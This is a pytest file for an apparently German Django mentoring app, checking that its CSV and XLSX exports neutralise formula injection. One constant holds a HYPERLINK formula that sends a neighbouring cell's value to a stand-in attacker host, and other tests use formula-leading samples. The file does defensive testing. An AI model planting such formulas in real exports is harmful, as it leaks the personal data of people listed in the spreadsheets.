"""Spreadsheet downloads never carry a formula that someone typed into a form."""

import csv
import io
from datetime import date

import openpyxl
from django.urls import reverse

from tests.factories import MentorFactory, ReferralFactory
from willkommen.core.exports import csv_response, spreadsheet_safe, xlsx_response

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Klick")'


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_mentor_list_csv_neutralises_a_formula_in_a_name(coordinator_client):
    MentorFactory(first_name=EVIL, last_name="+4917012345")
    rows = csv_rows(coordinator_client.get(reverse("mentors:export")))
    assert rows[1][:2] == ["'" + EVIL, "'+4917012345"]


def test_intake_queue_csv_neutralises_a_formula_in_a_name(coordinator_client):
    ReferralFactory(first_name=EVIL, last_name="@SUM(A1:A9)")
    rows = csv_rows(coordinator_client.get(reverse("newcomers:referral_export")))
    assert rows[1][:2] == ["'" + EVIL, "'@SUM(A1:A9)"]


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers():
    texts = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"]
    assert [spreadsheet_safe(text) for text in texts] == ["'" + text for text in texts]
    assert [spreadsheet_safe(value) for value in (-5, -2.5, "Maria", "", None)] == [
        -5, -2.5, "Maria", "", None,
    ]  # fmt: skip
    rows = csv_rows(csv_response("x.csv", ["=Kopf"], [[-5, "-5", 2.5]]))
    assert rows == [["'=Kopf"], ["-5", "'-5", "2.5"]]


def test_xlsx_cells_are_neutralised_and_keep_their_types():
    response = xlsx_response(
        "x.xlsx",
        [["Bericht"], ["2025"]],
        ["Name", "Zahl", "Datum"],
        [[EVIL, -5, date(2025, 1, 31)], ["\x01=1+1", 2.5, None]],
        sheet_title="mentors",
    )
    assert response["Content-Disposition"] == 'attachment; filename="x.xlsx"'
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "mentors"
    values = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=3)]
    assert values[1][:2] == ["'" + EVIL, -5]
    assert values[1][2].date() == date(2025, 1, 31)
    # A control character (not allowed in the file) cannot hide the "=" either.
    assert values[2][:2] == ["'=1+1", 2.5]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
